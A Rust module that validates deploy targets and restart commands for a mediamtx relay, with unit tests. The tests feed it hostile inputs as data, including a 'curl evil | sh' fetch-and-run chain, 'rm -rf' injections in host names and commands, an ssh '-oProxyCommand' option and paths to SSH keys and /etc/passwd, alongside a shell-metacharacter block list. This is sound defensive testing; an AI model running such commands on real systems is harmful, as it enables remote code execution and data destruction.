//! Deploy safety gate
//!
//! Every string that later reaches a process argument list passes through
//! [`validate`] first. Nothing here performs I/O.

use std::path::Path;
use std::sync::OnceLock;

use regex::Regex;

use super::types::{DeployConfig, DockerTarget, LocalTarget, SshTarget};
use crate::config::AgentConfig;
use crate::error::{Error, Result};

/// Name of the relay binary
pub const RELAY_NAME: &str = "mediamtx";

/// Accepted file names for a local relay config
pub const RELAY_CONFIG_NAMES: &[&str] = &["mediamtx.yml", "mediamtx.yaml"];

/// Programs that take a `restart` subcommand
const RESTART_SUBCOMMAND_PROGRAMS: &[&str] = &["systemctl", "docker"];

const SHELL_METACHARACTERS: &[char] = &[
    ';', '|', '&', '$', '`', '<', '>', '\n', '\r', '#', '\'', '"', '(', ')', '\\',
];

fn host_regex() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"^[a-zA-Z0-9][a-zA-Z0-9.-]*$").expect("static regex"))
}

fn user_regex() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"^[a-zA-Z0-9_][a-zA-Z0-9._-]*$").expect("static regex"))
}

fn container_regex() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"^[a-zA-Z0-9][a-zA-Z0-9_.-]*$").expect("static regex"))
}

fn reject(message: impl Into<String>) -> Error {
    Error::UnsafeDeploy(message.into())
}

/// Absolute, no parent traversal, no home expansion
pub fn is_safe_absolute_path(path: &str) -> bool {
    path.starts_with('/') && !path.contains("..") && !path.contains('~')
}

/// Absolute path whose file name is the relay config
pub fn is_relay_config_path(path: &str) -> bool {
    is_safe_absolute_path(path)
        && Path::new(path)
            .file_name()
            .and_then(|name| name.to_str())
            .is_some_and(|name| RELAY_CONFIG_NAMES.contains(&name))
}

/// Restart command carries no shell syntax and its leading program (after an
/// optional `sudo`) is `systemctl restart`, `docker restart` or the relay binary
pub fn is_safe_restart_command(command: &str) -> bool {
    if command.contains(SHELL_METACHARACTERS) {
        return false;
    }

    let mut words = command.split_whitespace().peekable();
    if words.peek() == Some(&"sudo") {
        words.next();
    }
    let Some(program) = words.next() else {
        return false;
    };

    let program_name = Path::new(program)
        .file_name()
        .and_then(|name| name.to_str())
        .unwrap_or(program);

    if program_name == RELAY_NAME {
        return true;
    }
    RESTART_SUBCOMMAND_PROGRAMS.contains(&program_name) && words.next() == Some("restart")
}

/// Validate a deploy target against the allow-lists
pub fn validate(config: &DeployConfig, policy: &AgentConfig) -> Result<()> {
    match config {
        DeployConfig::Ssh { ssh } => validate_ssh(ssh)?,
        DeployConfig::Docker { docker } => validate_docker(docker)?,
        DeployConfig::Local { local } => validate_local(local)?,
    }

    if let Some(command) = config.restart_command() {
        if !policy.allow_restart_commands {
            return Err(reject("restart commands are disabled"));
        }
        if !is_safe_restart_command(command) {
            return Err(reject(format!("restart command not allowed: {}", command)));
        }
    }

    Ok(())
}

fn validate_ssh(ssh: &SshTarget) -> Result<()> {
    if !host_regex().is_match(&ssh.host) {
        return Err(reject(format!("invalid ssh host: {}", ssh.host)));
    }
    if !user_regex().is_match(&ssh.user) {
        return Err(reject(format!("invalid ssh user: {}", ssh.user)));
    }
    if ssh.port == 0 {
        return Err(reject("invalid ssh port: 0"));
    }
    if !is_safe_absolute_path(&ssh.remote_path) {
        return Err(reject(format!("invalid remote path: {}", ssh.remote_path)));
    }
    Ok(())
}

fn validate_docker(docker: &DockerTarget) -> Result<()> {
    if docker.container.is_empty() {
        return Err(reject("docker container required"));
    }
    if !container_regex().is_match(&docker.container) {
        return Err(reject(format!("invalid container name: {}", docker.container)));
    }
    if docker.config_path.is_empty() {
        return Err(reject("docker config path required"));
    }
    if !is_safe_absolute_path(&docker.config_path) {
        return Err(reject(format!("invalid container config path: {}", docker.config_path)));
    }
    Ok(())
}

fn validate_local(local: &LocalTarget) -> Result<()> {
    if local.path.trim().is_empty() {
        return Err(reject("local path required"));
    }
    if !is_relay_config_path(&local.path) {
        return Err(reject(format!(
            "local path must be an absolute {} file: {}",
            RELAY_CONFIG_NAMES.join(" or "),
            local.path
        )));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    fn policy(allow_restart: bool) -> AgentConfig {
        AgentConfig {
            allow_restart_commands: allow_restart,
            temp_dir: PathBuf::from("/tmp"),
            api_timeout_secs: 30,
            command_timeout_secs: 60,
        }
    }

    fn ssh(host: &str, user: &str, path: &str, restart: Option<&str>) -> DeployConfig {
        DeployConfig::Ssh {
            ssh: SshTarget {
                host: host.to_string(),
                port: 22,
                user: user.to_string(),
                remote_path: path.to_string(),
                restart_command: restart.map(String::from),
            },
        }
    }

    #[test]
    fn test_ssh_accepts_clean_target() {
        let config = ssh(
            "relay-01.school.lan",
            "ops_user",
            "/etc/mediamtx/mediamtx.yml",
            Some("sudo systemctl restart mediamtx"),
        );
        assert!(validate(&config, &policy(true)).is_ok());
    }

    #[test]
    fn test_ssh_rejects_traversal_and_home() {
        for path in ["/etc/../root/.ssh/authorized_keys", "~/mediamtx.yml", "etc/mediamtx.yml"] {
            let err = validate(&ssh("relay", "ops", path, None), &policy(true)).unwrap_err();
            assert!(err.is_unsafe_deploy(), "{} should be rejected", path);
        }
    }

    #[test]
    fn test_ssh_rejects_bad_host_and_user() {
        assert!(validate(&ssh("relay;rm -rf /", "ops", "/etc/mediamtx.yml", None), &policy(true)).is_err());
        assert!(validate(&ssh("relay", "ops@evil", "/etc/mediamtx.yml", None), &policy(true)).is_err());
        assert!(validate(&ssh("", "ops", "/etc/mediamtx.yml", None), &policy(true)).is_err());
    }

    #[test]
    fn test_restart_allow_list() {
        assert!(is_safe_restart_command("systemctl restart mediamtx"));
        assert!(is_safe_restart_command("docker restart relay"));
        assert!(is_safe_restart_command("/usr/local/bin/mediamtx --reload"));
        assert!(!is_safe_restart_command("reboot"));
        assert!(!is_safe_restart_command("systemctl restart mediamtx; curl evil | sh"));
        assert!(!is_safe_restart_command("docker restart $(whoami)"));
        assert!(!is_safe_restart_command(""));
        assert!(is_safe_restart_command("sudo systemctl restart mediamtx"));
    }

    #[test]
    fn test_restart_anchors_on_leading_program() {
        assert!(!is_safe_restart_command("rm -rf /srv/mediamtx /home"));
        assert!(!is_safe_restart_command("echo systemctl restart mediamtx"));
        assert!(!is_safe_restart_command("sudo reboot mediamtx"));
        assert!(!is_safe_restart_command("systemctl stop mediamtx"));
        assert!(!is_safe_restart_command("docker rm mediamtx"));
        assert!(!is_safe_restart_command("sudo"));

        let err = validate(
            &ssh("relay", "ops", "/etc/mediamtx.yml", Some("rm -rf /srv/mediamtx /home")),
            &policy(true),
        )
        .unwrap_err();
        assert!(err.is_unsafe_deploy());
    }

    #[test]
    fn test_restart_rejects_quoting_and_comments() {
        for command in [
            "systemctl restart mediamtx #",
            "systemctl restart 'mediamtx'",
            "systemctl restart \"mediamtx\"",
            "docker restart (relay)",
            "mediamtx \\\nreboot",
        ] {
            assert!(!is_safe_restart_command(command), "{} should be rejected", command);
        }
    }

    #[test]
    fn test_ssh_rejects_option_like_host_and_user() {
        let err = validate(&ssh("-oProxyCommand=x", "ops", "/etc/mediamtx.yml", None), &policy(true))
            .unwrap_err();
        assert!(err.is_unsafe_deploy());
        assert!(validate(&ssh("relay", "-v", "/etc/mediamtx.yml", None), &policy(true)).is_err());
        assert!(validate(&ssh("relay", "_svc", "/etc/mediamtx.yml", None), &policy(true)).is_ok());

        let err = validate(&ssh("relay", "ops", "/etc/mediamtx.yml", Some("reboot")), &policy(true))
            .unwrap_err();
        assert!(err.is_unsafe_deploy());
    }

    #[test]
    fn test_restart_policy_switch() {
        let config = ssh("relay", "ops", "/etc/mediamtx.yml", Some("systemctl restart mediamtx"));
        let err = validate(&config, &policy(false)).unwrap_err();
        assert!(err.to_string().contains("disabled"));

        // No restart command: the switch does not matter
        assert!(validate(&ssh("relay", "ops", "/etc/mediamtx.yml", None), &policy(false)).is_ok());
    }

    #[test]
    fn test_docker_target() {
        let good = DeployConfig::Docker {
            docker: DockerTarget {
                container: "mediamtx".to_string(),
                config_path: "/mediamtx.yml".to_string(),
                restart: true,
            },
        };
        assert!(validate(&good, &policy(true)).is_ok());

        let bad_container = DeployConfig::Docker {
            docker: DockerTarget {
                container: "-it".to_string(),
                config_path: "/mediamtx.yml".to_string(),
                restart: false,
            },
        };
        assert!(validate(&bad_container, &policy(true)).is_err());

        let missing_path = DeployConfig::Docker {
            docker: DockerTarget {
                container: "mediamtx".to_string(),
                config_path: String::new(),
                restart: false,
            },
        };
        assert!(validate(&missing_path, &policy(true)).is_err());
    }

    #[test]
    fn test_local_target_must_reference_relay() {
        let good = DeployConfig::Local {
            local: LocalTarget {
                path: "/opt/relay/mediamtx.yml".to_string(),
                restart_command: None,
            },
        };
        assert!(validate(&good, &policy(true)).is_ok());

        let bad = DeployConfig::Local {
            local: LocalTarget {
                path: "/etc/passwd".to_string(),
                restart_command: None,
            },
        };
        assert!(validate(&bad, &policy(true)).unwrap_err().is_unsafe_deploy());
    }

    #[test]
    fn test_local_target_requires_config_file_name() {
        for path in [
            "/home/mediamtx/.bashrc",
            "/etc/cron.d/mediamtx",
            "/root/.ssh/authorized_keys.mediamtx-bak",
            "mediamtx.yml",
            "~/mediamtx.yml",
            "/opt/../etc/mediamtx.yml",
        ] {
            let local = DeployConfig::Local {
                local: LocalTarget {
                    path: path.to_string(),
                    restart_command: None,
                },
            };
            let err = validate(&local, &policy(true)).unwrap_err();
            assert!(err.is_unsafe_deploy(), "{} should be rejected", path);
        }

        assert!(is_relay_config_path("/etc/mediamtx/mediamtx.yaml"));
        assert!(is_relay_config_path("/mediamtx.yml"));
    }
}
